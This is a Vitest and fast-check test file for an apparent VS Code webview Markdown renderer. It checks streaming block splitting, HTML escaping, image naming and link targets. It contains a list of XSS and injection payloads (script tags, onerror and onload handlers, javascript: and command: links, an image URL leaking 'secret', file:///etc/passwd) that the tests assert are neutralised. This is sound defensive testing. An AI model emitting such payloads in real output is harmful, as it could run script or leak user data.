import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "../../../webview-ui/components/Markdown.tsx";
import { type Blocks, decoded, linkTarget, split } from "../../../webview-ui/markdown.ts";

const drawn = (text: string) => renderToStaticMarkup(createElement(Markdown, { text, id: "t" }));

const fragments = fc.constantFrom(
  "# Head\n",
  "para ",
  "\n\n",
  "\n",
  "- item\n",
  "  - inner\n",
  "1. one\n",
  "```ts\n",
  "```\n",
  "const a = `x`;\n",
  "    indented\n",
  "> quote\n",
  "| a | b |\n|---|---|\n",
  "| 1 | 2 |\n",
  "---\n",
  "===\n",
  "**bold** ",
  "*a",
  "[x](http://e.com) ",
  "![i](http://e.com/i.png)",
  "<div>\n",
  "</div>\n",
  "<script>alert(1)</script>",
  "&lt;b&gt; ",
  "[ref]: http://e.com\n",
  "\r\n",
  "\t",
  "שלום ",
);
const markdown = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(""));

describe("markdown", () => {
  it("is the same streamed in any pieces as read at once", () => {
    fc.assert(
      fc.property(markdown, fc.array(fc.nat(400), { maxLength: 12 }), (text, cuts) => {
        let known: Blocks | undefined;
        for (const cut of [...cuts.map((at) => at % (text.length + 1)).sort((a, b) => a - b), text.length]) {
          known = split(text.slice(0, cut), known);
        }
        expect(known?.blocks).toEqual(split(text).blocks);
      }),
      { numRuns: 1500 },
    );
  });

  it("loses no text: the blocks together are the text", () => {
    fc.assert(
      fc.property(markdown, (text) => {
        expect(split(text).blocks.join("").replace(/\s+/g, "")).toBe(text.replace(/\s+/g, ""));
      }),
    );
  });

  it("splits only the end again while a long reply streams", () => {
    const head = Array.from({ length: 200 }, (_, n) => `Paragraph ${n}\n\n`).join("");
    const before = split(head);
    const after = split(`${head}And on`, before);
    expect(after.blocks.slice(0, 300)).toEqual(before.blocks.slice(0, 300));
    expect(after.blocks.at(-1)).toBe("And on");
  });

  it("never draws an element that loads, runs or navigates, whatever the model writes", () => {
    const hostile = fc.constantFrom(
      "<img src=x onerror=alert(1)>",
      "<script>alert(1)</script>",
      '<a href="javascript:alert(1)">x</a>',
      "<iframe src=http://e.com>",
      "<svg onload=alert(1)>",
      "![x](http://e.com/leak.png?q=secret)",
      '![x](data:image/svg+xml,<svg/onload=alert(1)> "t")',
      "[x](javascript:alert(1))",
      "[x](command:workbench.action.terminal.new)",
      "[x](vscode://file/etc/passwd)",
      "<http://e.com>",
      '[x](http://e.com "onmouseover=alert(1)")',
      "<style>*{background:url(http://e.com)}</style>",
      "<!-- comment -->",
      "[a]: javascript:alert(1)\n\n[a]",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(hostile, fragments), { maxLength: 12 }), (parts) => {
        const html = drawn(parts.join(""));
        expect(html).not.toMatch(/<(img|script|iframe|svg|style|a|link|object|embed|form|video|audio|meta|base)\b/i);
        expect(html).not.toMatch(/<[^>]+\s(on\w+|href|src|style|srcset|action)=/i);
      }),
      { numRuns: 1000 },
    );
  });

  it("shows html as the text it is", () => {
    expect(drawn("a <b>c</b> <img src=x>")).toContain("&lt;img src=x&gt;");
  });

  it("names an image instead of loading it", () => {
    const html = drawn("![a chart](https://e.com/c.png)");
    expect(html).toContain("[image: a chart]");
    expect(html).toContain("https://e.com/c.png");
  });

  it("draws text that nests without end", () => {
    expect(drawn(">".repeat(20_000))).toContain("&gt;");
    expect(drawn(Array.from({ length: 200 }, (_, n) => `${"  ".repeat(n)}- x\n`).join(""))).toContain("x");
  });

  it("draws lists, tables, tasks and code", () => {
    const html = drawn("- [x] done\n- [ ] open\n\n| a | b |\n|:--|--:|\n| 1 | `2` |\n\n3. three\n\n```ts\na < b\n```");
    expect(html).toContain("codicon-check");
    expect(html).toContain('<td class="align-right"><code>2</code></td>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain("a &lt; b");
  });

  it("reads character references as characters", () => {
    expect(decoded("&lt;b&gt; &amp;amp; &#65;&#x42; &unknown; &#0; &#9999999;")).toBe(
      "<b> &amp; AB &unknown; &#0; &#9999999;",
    );
  });
});

describe("links", () => {
  it("lead to the web, mail or a file of the workspace", () => {
    expect(linkTarget("https://e.com/a?b#c")).toEqual({ kind: "url", url: "https://e.com/a?b#c" });
    expect(linkTarget("mailto:a@e.com")).toEqual({ kind: "url", url: "mailto:a@e.com" });
    expect(linkTarget("src/price.ts")).toEqual({ kind: "file", path: "src/price.ts" });
    expect(linkTarget("./src/price.ts:12")).toEqual({ kind: "file", path: "src/price.ts", line: 12 });
    expect(linkTarget("src/price.ts#L12-L20")).toEqual({ kind: "file", path: "src/price.ts", line: 12 });
  });

  it("lead nowhere else", () => {
    for (const href of [
      "javascript:alert(1)",
      "JavaScript:alert(1)",
      "data:text/html,x",
      "vscode://x",
      "command:x",
      "file:///etc/passwd",
      "//e.com",
      "/etc/passwd",
      "#top",
      "C:\\Windows",
      "",
    ]) {
      expect(linkTarget(href), href).toBeUndefined();
    }
  });
});
